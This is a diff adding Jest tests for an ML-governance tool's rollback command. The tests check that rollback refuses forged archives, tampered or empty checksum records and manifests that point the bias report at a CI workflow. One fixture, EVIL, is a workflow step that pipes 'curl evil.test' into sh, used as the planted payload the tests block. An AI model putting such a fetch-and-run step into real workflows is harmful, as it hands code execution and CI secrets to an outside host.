@@ -1,10 +1,10 @@
 import { afterEach, describe, expect, it } from '@jest/globals';
 import { execFileSync } from 'node:child_process';
-import { readdirSync, readFileSync, rmSync } from 'node:fs';
-import { join } from 'node:path';
-import { manifestDigest } from '../../src/formats/canonical-digest.js';
+import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { manifestDigest, sha256Hex } from '../../src/formats/canonical-digest.js';
 import { verifyAuditLog } from '../../src/evidence/hash-chain.js';
-import { createHistoryRepo, rolledBack, type HistoryRepo } from '../evidence/fixtures.js';
+import { createHistoryRepo, releaseFiles, rolledBack, writeRelease, type HistoryRepo } from '../evidence/fixtures.js';
 
 let repo: HistoryRepo | undefined;
 afterEach(() => {
@@ -205,5 +205,171 @@ describe('mlgov rollback', () => {
       ['1.0.0', 'rollback', 'intact', `artifacts/fraud-detection/1.0.0/${folderOf(rb3)}`],
     ]);
     expect(audit.code).toBe(0);
+  });
+});
+
+/** Writes `files` (repository-relative path → text) into the working tree. */
+function put(dir: string, files: Record<string, string | Buffer>): void {
+  for (const [rel, data] of Object.entries(files)) {
+    mkdirSync(dirname(join(dir, rel)), { recursive: true });
+    writeFileSync(join(dir, rel), data);
+  }
+}
+
+const DEPLOY = '.github/workflows/deploy.yml';
+const DEPLOY_TEXT = 'on: push\njobs: { deploy: { runs-on: ubuntu-latest, steps: [ { run: ./deploy.sh } ] } }\n';
+const EVIL = 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: curl evil.test | sh } ] } }\n';
+
+describe('mlgov rollback restores only verified files, only to the policy paths (issue 12)', () => {
+  /** 2.0.0 released on main with deploy.yml committed; the incident branch `incident` is checked out. */
+  async function production(): Promise<HistoryRepo> {
+    const r = createHistoryRepo();
+    put(r.dir, { [DEPLOY]: DEPLOY_TEXT });
+    r.commitAt('CI', '2025-01-02T00:00:00Z');
+    await r.release({ version: '2.0.0', at: '2025-03-01T10:00:00Z' });
+    return r;
+  }
+
+  it('refuses a version that never existed, added by a merged PR with an empty checksum record, and writes nothing (the reproduction)', async () => {
+    repo = await production();
+    // The PR only adds artifacts/fraud-detection/1.0.0/: a manifest naming deploy.yml as its bias report, a
+    // "bias report" that is a workflow, an empty checksums.sha256 and an evidence.json. It is merged.
+    const { manifest } = releaseFiles({ version: '1.0.0', at: '2025-01-15T10:00:00Z' });
+    manifest.biasReport.path = DEPLOY;
+    await repo.onBranch('add-archive', '2025-03-10T10:00:00Z', async () => {
+      put(repo!.dir, {
+        'artifacts/fraud-detection/1.0.0/manifest.json': JSON.stringify(manifest, null, 2) + '\n',
+        'artifacts/fraud-detection/1.0.0/bias-report.json': EVIL,
+        'artifacts/fraud-detection/1.0.0/checksums.sha256': '',
+        'artifacts/fraud-detection/1.0.0/evidence.json': '{}\n',
+      });
+    });
+    repo.git('checkout', '-q', '-b', 'incident');
+    const before = treeState(repo.dir);
+
+    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
+    expect(r.stdout).not.toContain('verified');
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(
+      'rollback refused: artifacts/fraud-detection/1.0.0/manifest.json was never the release in force on main',
+    );
+    expect(readFileSync(join(repo.dir, DEPLOY), 'utf8')).toBe(DEPLOY_TEXT);
+    expect(treeState(repo.dir)).toBe(before);
+  });
+
+  it('refuses an empty checksum record of a real archive, naming every uncovered file', async () => {
+    repo = await threeReleases();
+    repo.git('checkout', '-q', 'main');
+    // An insider empties the record on the base branch.
+    writeFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/checksums.sha256'), '');
+    repo.commitAt('tidy', '2025-04-02T10:00:00Z');
+    repo.git('checkout', '-q', '-b', 'incident');
+    const before = treeState(repo.dir);
+
+    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(
+      'artifacts/fraud-detection/1.0.0/checksums.sha256 does not cover every file of fraud-detection 1.0.0 (it is empty); ' +
+        'not covered: artifacts/fraud-detection/1.0.0/manifest.json, artifacts/fraud-detection/1.0.0/bias-report.json, ' +
+        'model/weights/1.0.0/model.onnx',
+    );
+    expect(treeState(repo.dir)).toBe(before);
+  });
+
+  it('refuses a partial record that leaves an artifact out, and a record whose digest is not the manifest’s', async () => {
+    repo = await threeReleases();
+    repo.git('checkout', '-q', 'main');
+    const sumsFile = join(repo.dir, 'artifacts/fraud-detection/1.0.0/checksums.sha256');
+    const full = readFileSync(sumsFile, 'utf8');
+    writeFileSync(sumsFile, full.replace(/^.*model\/weights\/1\.0\.0\/model\.onnx\n/m, ''));
+    repo.commitAt('tidy', '2025-04-02T10:00:00Z');
+    repo.git('checkout', '-q', '-b', 'incident');
+    const partial = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
+    expect(partial.code).toBe(1);
+    expect(partial.stderr).toContain('(2 line(s)); not covered: model/weights/1.0.0/model.onnx');
+
+    // New weights with a record re-hashed to match them: the record no longer says what the archived manifest says.
+    repo.git('checkout', '-q', 'main');
+    writeFileSync(join(repo.dir, 'model/weights/1.0.0/model.onnx'), 'other weights\n');
+    const other = sha256Hex(Buffer.from('other weights\n'));
+    writeFileSync(sumsFile, full.replace(/^[0-9a-f]{64}(?= {2}model\/weights\/1\.0\.0\/model\.onnx$)/m, other));
+    repo.commitAt('swap', '2025-04-03T10:00:00Z');
+    repo.git('checkout', '-q', '-b', 'incident2');
+    const swapped = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
+    expect(swapped.code).toBe(1);
+    expect(swapped.stderr).toContain(
+      `records model/weights/1.0.0/model.onnx as ${other}, the archived release declares`,
+    );
+    expect(readFileSync(join(repo.dir, 'model/manifest.json'), 'utf8')).toBe(
+      repo.git('show', 'main:model/manifest.json'),
+    );
+  });
+
+  it('refuses an archive that is only in the working tree, or whose working-tree copy differs from the base', async () => {
+    repo = await threeReleases();
+    // Copy 1.1.0's real archive to an unreleased 0.9.0 folder, not committed.
+    const fake = JSON.parse(readFileSync(join(repo.dir, 'artifacts/fraud-detection/1.1.0/manifest.json'), 'utf8'));
+    fake.version = '0.9.0';
+    put(repo.dir, { 'artifacts/fraud-detection/0.9.0/manifest.json': JSON.stringify(fake) });
+    const onlyHere = await repo.mlgov(['rollback', '--to', '0.9.0', '--reason', REASON, '--base', 'main']);
+    expect(onlyHere.code).toBe(1);
+    expect(onlyHere.stderr).toContain('artifacts/fraud-detection/0.9.0/ is not on the base revision main');
+
+    writeFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/checksums.sha256'), '');
+    const edited = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
+    expect(edited.code).toBe(1);
+    expect(edited.stderr).toContain(
+      'artifacts/fraud-detection/1.0.0/ in the working tree differs from the base revision main (checksums.sha256)',
+    );
+    expect(readFileSync(join(repo.dir, 'model/manifest.json'), 'utf8')).toBe(
+      repo.git('show', 'main:model/manifest.json'),
+    );
+  });
+
+  it('never writes the bias report to a path a released manifest names: refused when it is not the policy’s', async () => {
+    repo = await production();
+    // 1.5.0 was really released on main, with a manifest naming deploy.yml as its bias report; 2.1.0 archived it.
+    await repo.onBranch('release-1.5.0', '2025-03-05T10:00:00Z', async () => {
+      const m = writeRelease(repo!.dir, { version: '1.5.0', at: '2025-03-05T10:00:00Z' });
+      m.biasReport.path = DEPLOY;
+      put(repo!.dir, { 'model/manifest.json': JSON.stringify(m, null, 2) + '\n' });
+    });
+    await repo.release({ version: '2.1.0', at: '2025-03-06T10:00:00Z' });
+    repo.git('checkout', '-q', '-b', 'incident');
+    const before = treeState(repo.dir);
+    const r = await repo.mlgov(['rollback', '--to', '1.5.0', '--reason', REASON, '--base', 'main']);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(
+      `artifacts/fraud-detection/1.5.0/manifest.json names the bias report ${DEPLOY}, not the policy's reports/latest-bias-report.json`,
+    );
+    expect(readFileSync(join(repo.dir, DEPLOY), 'utf8')).toBe(DEPLOY_TEXT);
+    expect(treeState(repo.dir)).toBe(before);
+  });
+
+  it('refuses when the working tree policy moves the paths it writes to', async () => {
+    repo = await threeReleases();
+    const policy = join(repo.dir, '.github/governance-policy.yml');
+    writeFileSync(
+      policy,
+      readFileSync(policy, 'utf8').replace('biasReport: reports/latest-bias-report.json', `biasReport: ${DEPLOY}`),
+    );
+    const before = treeState(repo.dir);
+    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(
+      `moves model.biasReport (reports/latest-bias-report.json on main, ${DEPLOY} here); write commands write only to the base policy's paths`,
+    );
+    expect(treeState(repo.dir)).toBe(before);
+  });
+
+  it('reports how many files it verified, all of them covered by the record', async () => {
+    repo = await threeReleases();
+    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main', '--format', 'json']);
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.stdout).verified).toEqual([
+      'model/weights/1.0.0/model.onnx',
+      'artifacts/fraud-detection/1.0.0/manifest.json',
+      'artifacts/fraud-detection/1.0.0/bias-report.json',
+    ]);
   });
 });
